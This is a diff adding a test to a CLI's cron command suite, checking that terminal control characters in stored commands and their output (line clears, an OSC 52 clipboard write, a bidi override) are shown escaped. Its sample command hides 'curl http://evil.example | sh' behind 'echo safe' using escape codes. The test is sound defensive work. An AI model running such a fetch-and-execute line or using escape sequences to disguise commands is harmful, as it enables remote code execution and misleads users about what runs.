@@ -427,6 +427,40 @@ describe('lango cron', () => {
     expect(after.data.jobs.map((job) => job.name)).not.toContain('cli-hello')
   })
 
+  it('shows the control characters of a command and of its output escaped, never acting on them; --json keeps the values', async () => {
+    // A command whose end would display as `curl … | sh` over `echo safe` on a terminal acting on the escapes (the shell sees a comment), and output
+    // that clears its line, sets the clipboard (OSC 52) and reorders text (a bidi override).
+    const command =
+      "printf 'ok\\033[2K\\rHIDDEN \\033]52;c;cHduZWQ=\\007 \\342\\200\\256txet\\n'; echo safe #\u001b[2K\rcurl http://evil.example | sh"
+    expect(
+      (await json(['cron', 'add', 'cli-escapes', '--schedule', '0 0 1 1 *', '--command', command])).code,
+    ).toBe(0)
+    // Our own styling (colour forced) still reaches the terminal; nothing else acts on it.
+    const onlyStyling = (text: string) => text.replace(/\p{Cc}\[\d+m/gu, '')
+    const unsafe = /(?![\t\n])[\p{Cc}\u202e]/u
+    for (const args of [
+      ['cron', 'get', 'cli-escapes'],
+      ['cron', 'trigger', 'cli-escapes', '--wait', '--timeout', '20s'],
+      ['cron', 'history', 'cli-escapes'],
+    ]) {
+      const shown = await lango(args, { env: { FORCE_COLOR: '1', NO_COLOR: '' } })
+      expect(shown.code, args.join(' ')).toBeLessThan(2)
+      expect(shown.stdout, args.join(' ')).toMatch(/\p{Cc}\[\d+m/u)
+      expect(onlyStyling(shown.stdout), args.join(' ')).not.toMatch(unsafe)
+      expect(shown.stdout, args.join(' ')).toContain('\\u{1b}[2K')
+    }
+    const shown = await lango(['cron', 'get', 'cli-escapes'])
+    expect(shown.stdout).toContain('; echo safe #\\u{1b}[2K\\u{d}curl http://evil.example | sh')
+    expect(shown.stdout).not.toMatch(unsafe)
+    const run = await json<{ run: { result: string } }>(['cron', 'trigger', 'cli-escapes', '--wait'])
+    expect(run.stdout).not.toMatch(unsafe)
+    expect(run.data.run.result).toContain('ok\u001b[2K\rHIDDEN \u001b]52;c;cHduZWQ=\u0007 \u202etxet')
+    const got = await json<{ job: { command: string } }>(['cron', 'get', 'cli-escapes'])
+    expect(got.data.job.command).toBe(command)
+    expect(got.stdout).not.toMatch(unsafe)
+    await lango(['cron', 'remove', 'cli-escapes'])
+  })
+
   it('trigger --wait exits 1 when the run fails; trigger alone returns the run id at once', async () => {
     await json([
       'cron',
